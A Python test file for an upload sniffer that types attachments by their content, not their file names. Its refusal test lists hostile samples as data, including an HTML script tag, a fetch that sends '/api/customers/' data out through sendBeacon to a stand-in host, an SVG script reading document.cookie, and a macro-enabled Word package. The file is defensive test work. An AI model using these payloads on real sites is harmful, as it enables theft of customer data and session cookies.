"""User files cannot run script (ADR 0009): the type comes from the content, never the name."""

from __future__ import annotations

import io
import zipfile

import pytest

from aftersales.core.attachments import sniffing


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


def _zip(names: list[str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n in names:
            z.writestr(n, "<x/>")
    return out.getvalue()


def _xlsx() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


@pytest.mark.parametrize(("content", "name", "expected"), [
    (b"\xff\xd8\xff\xe0\x00\x10JFIF", "a.bin", sniffing.JPEG),
    (None, "photo.gif", sniffing.PNG),  # a PNG named .gif is a PNG
    (b"GIF89a\x01\x00", "x", sniffing.GIF),
    (b"RIFF\x10\x00\x00\x00WEBPVP8 ", "x", sniffing.WEBP),
    (b"%PDF-1.7\n", "scan.jpg", sniffing.PDF),
    ("xlsx", "report.pdf", sniffing.XLSX),
    (_zip(["[Content_Types].xml", "word/document.xml"]), "a.zip", sniffing.DOCX),
    (sniffing.OLE_MAGIC + b"\x00" * 8, "old.xls", sniffing.XLS),
])
def test_allowed_types_are_recognised_by_content(content, name, expected):
    content = _png() if content is None else _xlsx() if content == "xlsx" else content
    assert sniffing.sniff(io.BytesIO(content), name) == expected


@pytest.mark.parametrize("content", [
    b"<!doctype html><script src=evil.js></script>",
    b"fetch('/api/customers/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))",
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
    b"\xef\xbb\xbf<html><body onload=alert(1)>",
    b"MZ\x90\x00\x03",  # a Windows executable
    _zip(["evil.html"]),  # a zip that is not an Office package
    _zip(["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"]),  # macro-enabled
    b"",
])
def test_everything_else_is_refused_whatever_its_name(content):
    assert sniffing.sniff(io.BytesIO(content), "photo.jpg") is None
